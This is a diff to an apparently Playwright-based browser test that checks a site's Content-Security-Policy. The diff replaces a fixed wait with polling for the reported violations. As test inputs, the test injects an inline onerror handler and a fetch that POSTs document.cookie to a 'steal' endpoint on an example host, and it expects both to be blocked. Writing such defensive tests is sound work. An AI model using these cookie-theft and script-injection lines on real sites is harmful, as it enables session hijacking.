@@ -54,8 +54,7 @@ describe('the Content-Security-Policy in the browser', () => {
     );
     expect(framedTitle).toBe('site');
 
-    const outcome = await page.evaluate(async () => {
-      const w = window as unknown as { violations: string[]; injected?: boolean };
+    const fetched = await page.evaluate(async () => {
       const frame = document.createElement('iframe');
       frame.src = 'https://example.com/';
       document.body.append(frame);
@@ -72,16 +71,20 @@ describe('the Content-Security-Policy in the browser', () => {
       handler.innerHTML = '<img src="/no-such-image.png" onerror="window.injected = true">';
       document.body.append(handler);
 
-      const fetched = await fetch('https://api.example.com/steal', { method: 'POST', body: document.cookie }).then(
+      return fetch('https://api.example.com/steal', { method: 'POST', body: document.cookie }).then(
         () => 'sent',
         () => 'blocked',
       );
-      await new Promise((resolve) => setTimeout(resolve, 300));
-      return { violations: [...new Set(w.violations)].sort(), injected: w.injected === true, fetched };
     });
-    expect(outcome.injected).toBe(false);
-    expect(outcome.fetched).toBe('blocked');
-    expect(outcome.violations).toEqual(expect.arrayContaining(['connect-src', 'frame-src', 'script-src-attr', 'script-src-elem']));
+    expect(fetched).toBe('blocked');
+    // Each attempt is reported as it is blocked (the frame and the image take a moment).
+    const expected = ['connect-src', 'frame-src', 'script-src-attr', 'script-src-elem'];
+    await page.waitForFunction(
+      (directives) => directives.every((directive) => (window as unknown as { violations: string[] }).violations.includes(directive)),
+      expected,
+      { timeout: 20_000 },
+    );
+    expect(await page.evaluate(() => (window as unknown as { injected?: boolean }).injected === true)).toBe(false);
     await page.close();
   });
 
